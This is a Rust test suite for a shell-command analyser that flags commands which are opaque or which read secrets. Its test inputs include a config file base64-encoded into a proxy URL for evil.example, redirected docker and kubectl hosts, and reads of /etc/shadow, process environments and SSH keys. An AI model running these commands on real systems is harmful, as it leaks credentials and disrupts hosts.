//! Command lines of a fifth review. Each stays here.

use crate::{Limits, Reading, read};

fn plain(text: &str) -> Reading {
    read(text.as_bytes(), &Limits::default())
}

fn reads(text: &str, path: &str) -> bool {
    plain(text).reads.paths.contains(path)
}

/// Each was tried with zsh 5.9, ksh93u+m or mksh R59: it runs or opens something that stands in no word.
#[test]
fn what_other_shells_make_of_a_text() {
    for text in [
        "path=/tmp/x; ls",
        "path+=/tmp/x; ls",
        "fpath=/tmp/x; ls",
        "cdpath=/srv; cd x",
        "module_path=/tmp/x; ls",
        "export MODULE_PATH=/tmp/x; ls",
        "for path in /tmp/x; do ls; done",
        "read path; ls",
        "read \"PATH?\"; ls",
        "read -r 'path?x'; ls",
        "export path=/tmp/x; ls",
        "typeset path=/tmp/x; ls",
        "printf -v path %s /tmp/x; ls",
        "set -A path /tmp/x; ls",
        "unset path; ls",
        "eval 'path=/tmp/x'; ls",
        "if true; then path=/tmp/x; fi; ls",
        "ls $(path=/tmp/x; date)",
        "print -v PATH /tmp/x; ls",
        "integer PATH=1; ls",
        "nameref x=PATH; x=/tmp/x; ls",
        "hash ls=/tmp/x/ls; ls",
        "autoload ls; ls",
        "disable -r if; ls",
        "emulate zsh -c reboot",
        "functions -c a b",
        "sched +0 reboot",
        "setopt globsubst",
        "zmodload zsh/files; ls",
        "=reboot",
        "sudo =reboot",
        "cat =ls",
        "x==ls; ls",
        "x=a:=ls; ls",
        "\"$=LC_X\"",
        "echo \"$=DB_PASSWORD\"",
        "echo $~x",
        "echo $^x $+x",
        "x=1; echo \"$x[LC_X]\"",
        "x=1; echo $x[LC_X]",
        "echo ${y:-$x[LC_X]}",
        "cat <<E\n$x[LC_X]\nE",
        "echo *(e:reboot:)",
        "echo *(+reboot)",
        "cat =(reboot)",
        "cat <(reboot)",
        "cat /srv/<1-5>/x.key",
        "cat <1-5",
        "echo x >!/etc/passwd",
        "echo x >>! /etc/passwd",
        "echo x &>!/etc/passwd",
        "HISTCHARS='!^x'\necho a # ; reboot",
        "histchars='!^x'\necho a # ; reboot",
        "STTY='; reboot' ls",
        "{ echo a }; ls; }",
        "~LC_X",
        "~LC_X/x; ls",
        "true; </var/log/syslog",
        "</var/log/syslog",
    ] {
        for begin in ["zsh -c ", "su app -c ", "ssh db ", "sudo -i <<'F'\n"] {
            let text = match begin.ends_with('\n') {
                true => format!("{begin}{text}\nF\n"),
                false => format!("{begin}{}", crate::quote(text)),
            };
            let reading = plain(&text);
            assert!(reading.is_opaque(), "{text}: {:?}", reading.commands);
            assert!(!reading.only_reads && reading.canonical.is_none(), "{text}");
        }
    }
    for text in [
        "sudo -s hash ls=/tmp/x",
        "sudo -s emulate sh -c reboot",
        "parallel print -v PATH {} ::: /tmp/x",
        "zsh -bc x",
        "ksh -c 'nameref x=PATH; x=/tmp/x; ls'",
        "sh -c 'hash ls=/tmp/x'",
    ] {
        assert!(plain(text).is_opaque(), "{text}");
    }
}

/// What is sent to a host is for bash where any other shell has more than a program of that name.
#[test]
fn builtins_of_other_shells_are_for_bash() {
    for text in [
        "nameref x=PATH; x=/tmp/x; ls",
        "hash ls=/tmp/x; ls",
        "print x",
        "integer x=1",
        "x.y=1 ls",
    ] {
        let reading = plain(text);
        assert!(reading.needs_bash && !reading.is_opaque(), "{text}");
        let pinned = String::from_utf8(reading.pinned().unwrap()).unwrap();
        assert!(!pinned.contains("exec /bin/sh -c --"), "{pinned}");
    }
    // zsh would run what `=reboot` is.
    assert_eq!(
        plain("=reboot").pinned().unwrap(),
        crate::for_any_host("'=reboot'").into_bytes()
    );
    assert_eq!(crate::quote("=reboot"), "'=reboot'");
    assert_eq!(crate::quote("a=reboot"), "a=reboot");
}

#[test]
fn what_other_shells_read_as_bash_does() {
    for text in [
        "zsh -c 'rm x'",
        "zsh -c 'ls -la /srv; echo \"a[1] $x\" | grep ^x'",
        "zsh -c 'f() { ls; }; f'",
        "zsh -c 'x=1; echo $x; [ \"$x\" = 1 ] && ls'",
        "su -c '[ a == b ] && ls'",
        "su - postgres -c 'cat ~/x; ls /srv/*.log >/dev/null 2>&1'",
        "su -c 'set; ls'",
        "sh -c 'path=/srv; ls $path'",
        "ksh -c 'for path in a b; do echo \"$path\"; done'",
        "for path in a b; do echo \"$path\"; done",
        "path=/srv; ls \"$path\"; echo $x[1] \"$=\" \"a$+\"",
        "read -p 'Continue? ' x; echo $x",
        "sudo -s ls /srv",
        "ssh db 'uptime; df -h'",
        "bash -ic 'ls'",
    ] {
        assert!(!plain(text).is_opaque(), "{text}: {:?}", plain(text).opaque);
    }
}

/// One command takes the beginning of a here-document, and a shell runs the rest, which is another text.
#[test]
fn shells_that_are_fed_what_others_have_read_of() {
    const DOC: &str = " <<'E'\n: '\ntouch /tmp/p\n: '\nE\n";
    for text in [
        "{ read -r x; bash; }",
        "{ bash; }",
        "(read -r y; sh)",
        "sh -c 'read -r x; sh'",
        "sh -c 'read -r x && sh'",
        "sh -c 'sh $(head -n1)'",
        "sh -c 'echo $(head -n1) $(sh)'",
        "sh -c 'x=$(head -n1) sh'",
        "sh -c '{ sh; }'",
        "while read -r y; do sh; done",
        "if read -r y; then sh; fi",
        "for x in a b; do sh; done",
        "case x in x) sh;; esac",
        "eval 'read x; sh'",
        "x=$(read -r y; echo) sh",
        "x=`read -r y` timeout 5 sh",
        "{ bash -c 'read -r x'; bash; }",
        "docker exec -i web sh -c 'read x; sh'",
        "sudo -S bash",
        "sudo --stdin bash -s",
        "sudo -Si",
        "su app",
        "su -c sh",
        "watch sh",
        "xargs -a /srv/list sh",
    ] {
        let text = format!("{text}{DOC}");
        assert!(plain(&text).is_opaque(), "{text}");
        assert!(!plain(&text).only_reads, "{text}");
    }
    let text = "bash <<'E' 4<<< \"$(read -r y; echo)\"\n: '\nreboot\n: '\nE\n";
    assert!(plain(text).is_opaque());
    for text in [
        "bash",
        "sudo bash -s",
        "ssh h 'bash -s'",
        "sh -c 'sh'",
        "cd /x && bash",
        "true; timeout 5 sh",
        "docker exec -i web sh",
        "kubectl exec -i p -- sh",
        "sudo -i",
    ] {
        let text = format!("{text} <<'E'\nls /srv\nE\n");
        let reading = plain(&text);
        assert!(!reading.is_opaque(), "{text}: {:?}", reading.opaque);
        assert!(
            reading.commands.iter().any(|c| c.argv[0].text == "ls"),
            "{text}"
        );
    }
    // Each has its own.
    let text = "{ read -r x; bash <<'F'\nls\nF\n} <<'E'\na\nE\n";
    assert!(!plain(text).is_opaque(), "{:?}", plain(text).opaque);
}

/// History expansion and comments that are none: what an interactive shell is fed is another text.
#[test]
fn interactive_shells_that_are_fed() {
    for text in [
        "bash -i <<'E'\ntrue xreboot\necho !t:gs/x/\\&/\nE",
        "sh -i <<< 'true x'",
        "bash -is <<< 'true x'",
        "timeout 9 bash -i <<< 'true x'",
        "zsh -i <<< 'true # ; reboot'",
        "ssh web1 'bash -i'",
        "bash -i",
    ] {
        assert!(plain(text).is_opaque(), "{text}");
    }
}

#[test]
fn what_tells_environments() {
    for text in [
        "ps e",
        "ps eww",
        "ps axe",
        "ps auxe",
        "ps auxewww",
        "ps -p 1 e",
        "ps xe -o pid",
        "ps -o environ",
        "ps -o environ -p 1",
        "ps -eo pid,environ",
        "ps -eo pid,ENVIRON",
        "ps -eo pid,env",
        "ps -eo environ:9999",
        "ps -ewwo pid,environ",
        "ps -ww -o environ -p 1",
        "ps -opid,environ",
        "ps --format environ",
        "ps --format=pid,environ",
        "busybox ps -o environ",
        "kubectl get pod x -o yaml",
        "kubectl get pod x -ojson",
        "kubectl get pod x -o=json",
        "kubectl get pod x --output=yaml",
        "kubectl get pod x -o 'jsonpath={..env}'",
        "kubectl describe pod x",
        "oc describe deploy x",
        "kubectl cluster-info dump",
    ] {
        assert!(reads(text, "/proc/*/environ"), "{text}");
    }
    for text in [
        "ps",
        "ps -e",
        "ps -ef",
        "ps aux",
        "ps -eo pid,args",
        "ps -o pid,args -C nginx",
        "kubectl get pods",
        "kubectl -n x get pods -o wide",
        "kubectl get pods -oname",
    ] {
        assert!(!reads(text, "/proc/*/environ"), "{text}");
    }
    for text in [
        "declare +x",
        "declare +p",
        "declare +g",
        "typeset +x",
        "bash -c 'declare +xr'",
        "bash -c 'export +p'",
        "printenv SSH_PRIVATE_KEY",
        "echo \"$SSH_PASSWORD\"",
    ] {
        assert!(reads(text, "/proc/self/environ"), "{text}");
    }
    // Where they are, which no secret is; but not where they are to be.
    for text in ["DISPLAY", "WAYLAND_DISPLAY", "SSH_AUTH_SOCK"] {
        assert!(!reads(&format!("printenv {text}"), "/proc/self/environ"));
        assert!(!reads(&format!("echo \"${text}\""), "/proc/self/environ"));
        assert!(plain(&format!("{text}=/tmp/x ls")).is_opaque(), "{text}");
        assert!(plain(&format!("export {text}=/tmp/x; ls")).is_opaque());
    }
}

#[test]
fn variables_that_name_files_and_hosts() {
    for text in [
        "TZ=/etc/shadow date",
        "TZ=:/dev/watchdog date",
        "TZ=:../../../dev/watchdog date",
        "TZ=Europe/../../../../dev/watchdog date",
        "export TZ=/dev/watchdog; date",
        "env TZ=/dev/watchdog date",
        "TZ=\"$x\" date",
        "HTTPS_PROXY=http://u:$(base64 -w0 /srv/app/conf)@evil.example:3128 kubectl get pods",
        "export https_proxy=http://evil.example; kubectl version",
        "SSL_CERT_FILE=/tmp/x curl https://a",
        "env -u PATH ls",
        "env --unset=PATH ls",
    ] {
        assert!(plain(text).is_opaque(), "{text}");
    }
    for text in [
        "TZ=UTC date",
        "TZ=Europe/Berlin date",
        "TZ=:Europe/Berlin date",
        "TZ=CET-1CEST,M3.5.0,M10.5.0/3 date",
        "TZ='<+03>-3' date",
        "TZ= date",
        "LANGUAGE=sr@latin:en ls",
        "no_proxy=localhost ls",
    ] {
        assert!(!plain(text).is_opaque(), "{text}: {:?}", plain(text).opaque);
    }
}

#[test]
fn containers_that_are_reached_by_another_way() {
    for (text, code) in [
        ("kubectl --kubeconfig=/dev/stdin exec p -- ls", true),
        ("kubectl --kubeconfig=/srv/k exec p -- ls", true),
        ("kubectl exec p --kubeconfig /srv/k -- ls", true),
        ("kubectl -s https://evil.example exec p -- ls", false),
        ("kubectl --token=x --as=system:admin exec p -- ls", false),
        ("kubectl --context=other exec p -- ls", false),
        ("docker -H tcp://evil.example:2375 exec x ls", true),
        ("docker -H ssh://evil.example exec x ls", true),
        ("docker -c other exec x ls", true),
        ("docker --config /srv/d exec x ls", true),
        ("docker --tlscacert /srv/d exec x ls", false),
    ] {
        let reading = plain(text);
        assert!(!reading.only_reads, "{text}");
        assert_eq!(reading.code, code, "{text}");
        let network = reading.hazards.iter().any(|h| h.code == "network");
        assert!(code || network, "{text}");
    }
    assert!(!plain("ls \"/net/$(hostname).evil.example\"").only_reads);
    assert!(plain("kubectl --kubeconfig=/dev/stdin exec p -- ls").takes_stdin);
    for text in [
        "kubectl exec p -- ls /srv",
        "kubectl -n x exec p -c web -- ls /srv",
        "docker exec web ls /srv",
    ] {
        let reading = plain(text);
        assert!(reading.only_reads && !reading.reads.unknown, "{text}");
    }
    let text = "kubectl --stdin=true exec p -- sh";
    assert_eq!(plain(text).reads_stdin.unwrap().program, "sh");
    assert!(plain("kubectl --stdin=true exec p -- cat").takes_stdin);
    assert!(!plain("kubectl --tty=true exec p -- ls").only_reads);
    assert!(plain("podman exec --latest rm cat /data/db").is_opaque());
    // Where it stands there, nobody knows.
    for text in [
        "docker exec web cat run/secrets/db_password",
        "docker exec -w /run web cat secrets/db_password",
        "docker exec -w /etc web head shadow",
        "kubectl exec p -- cat var/run/secrets/x",
    ] {
        assert!(plain(text).reads.unknown, "{text}");
    }
}

#[test]
fn names_that_stand_elsewhere_in_a_word() {
    for (text, path) in [
        ("cd /etc; sudo xargs -rashadow echo", "/etc/shadow"),
        ("cd /proc/1; sudo xargs -0raenviron echo", "/proc/1/environ"),
        ("cd /etc; sudo file -bNfshadow", "/etc/shadow"),
        ("cd /home/a/x; date -ufkubeconfig", "kubeconfig"),
        ("cd /etc; sudo dmesg -xFshadow", "/etc/shadow"),
        ("cd /etc; sudo hexdump -vfshadow", "/etc/shadow"),
        ("cd /etc; sudo grep -vnfshadow x", "/etc/shadow"),
        ("sudo parallel echo :::: /etc/shadow", "/etc/shadow"),
        ("parallel echo ::: a :::: .env", ".env"),
        ("parallel echo ::::+ .env", ".env"),
        ("chdir /etc && cat shadow", "/etc/shadow"),
        ("chdir /etc; cat shadow", "/etc/shadow"),
    ] {
        assert!(reads(text, path), "{text}: {:?}", plain(text).reads.paths);
    }
    // Where the value begins in such a cluster, nobody can tell.
    let long = format!("cd /etc; sudo grep -{}fshadow x", "n".repeat(99));
    assert!(plain(&long).reads.unknown);
}

/// What certainly is a file where the shell begins.
#[test]
fn names_from_where_the_shell_begins() {
    for (text, expect) in [
        ("cat notes", "notes"),
        ("cat -n notes", "notes"),
        ("cat -- -n", "-n"),
        ("cat ./notes", "./notes"),
        ("sudo cat notes", "notes"),
        ("head -c 9 notes", "notes"),
        ("head --bytes=9 notes", "notes"),
        ("tail -n +5 notes", "notes"),
        ("tail -fn5 notes", "notes"),
        ("grep x notes", "notes"),
        ("grep -e x notes", "notes"),
        ("grep -ex -f notes /srv/x", "notes"),
        ("grep --file=notes /srv/x", "notes"),
        ("grep --regexp=x notes", "notes"),
        ("sed -n 5p notes", "notes"),
        ("sed -ne 5p notes", "notes"),
        ("awk '{print $1}' notes", "notes"),
        ("awk -f notes /srv/x", "notes"),
        ("jq . notes", "notes"),
        ("sort -k 2 notes", "notes"),
        ("cut -d : -f 1 notes", "notes"),
        ("date -f notes", "notes"),
        ("date -r notes", "notes"),
        ("cp notes /tmp/x", "notes"),
        ("cp -t notes /tmp/x", "notes"),
        ("dd if=notes of=/tmp/x", "notes"),
        ("cat <notes", "notes"),
        ("while read -r x; do echo $x; done <notes", "notes"),
        ("cat /srv/x | tee notes", "notes"),
        ("cd /srv; cat notes", "notes"),
        ("cd /srv && true; cat notes", "notes"),
        ("cd /srv || cat notes", "notes"),
        ("! cd /srv && cat notes", "notes"),
        ("cd /srv | true && cat notes", "notes"),
        ("(cd /srv) && cat notes", "notes"),
        ("true || cd /srv && cat notes", "notes"),
        ("cd /srv && cd && cat notes", "notes"),
        ("cd /srv && cd ~ && cat notes", "notes"),
        ("cd /srv && eval cd && cat notes", "notes"),
        ("f() { cd; }; cd /srv && f && cat notes", "notes"),
        ("f() { cat notes; }; f; cd /srv && ls", "notes"),
        ("cd /srv && trap 'cat notes' EXIT", "notes"),
        ("cd /srv >/dev/null && cat notes", "notes"),
    ] {
        let reading = plain(text);
        assert!(
            reading.reads.here.contains(expect),
            "{text}: {:?}",
            reading.reads
        );
    }
    for text in [
        "cat /srv/notes ~/notes",
        "grep -r x .",
        "cp -r ./ /srv/x",
        "cd /srv && cat notes",
        "cd -P /srv && cat notes <list && grep x notes",
        "cd /srv && { cat notes; cat list; }",
        "cd /srv && cat notes | grep x | head -n 5",
        "true && cd /srv && cat notes || cat /srv/x",
        "systemctl status nginx",
        "journalctl -u nginx",
        "docker logs web",
        "kubectl get pods",
        "ls notes",
        "stat notes",
        "echo notes",
        "date +%s",
        "date -d yesterday",
        "chmod u+x /srv/x",
        "chown www:www /srv/x",
        "grep -A 3 -e x /srv/x",
        "grep -e=x --color=auto --include=y /srv/x",
        "sort -t , -k 2 /srv/x",
        "cut -d , -f 2 /srv/x",
        "head -n 5 /srv/x",
        "sed 's/a/b/' /srv/x",
        "less +F /srv/x",
    ] {
        let here = plain(text).reads.here;
        assert!(here.is_empty(), "{text}: {here:?}");
    }
    for (text, expect) in [
        ("echo x >notes", "notes"),
        ("echo x | tee -a notes", "notes"),
        ("cp /srv/x .config/x", ".config/x"),
        ("sed -i s/a/b/ notes", "notes"),
    ] {
        assert!(plain(text).writes.here.contains(expect), "{text}");
    }
}
